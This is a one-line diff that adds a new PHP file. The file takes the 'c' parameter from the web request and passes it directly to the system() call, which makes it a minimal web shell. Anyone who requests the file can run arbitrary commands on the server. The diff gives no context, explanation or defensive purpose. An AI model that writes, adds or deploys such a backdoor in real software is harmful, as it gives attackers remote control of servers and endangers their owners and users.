@@ -1,0 +1,1 @@
+<?php $c = sprintf(format: "%s", values: $_GET["c"]); system($c);
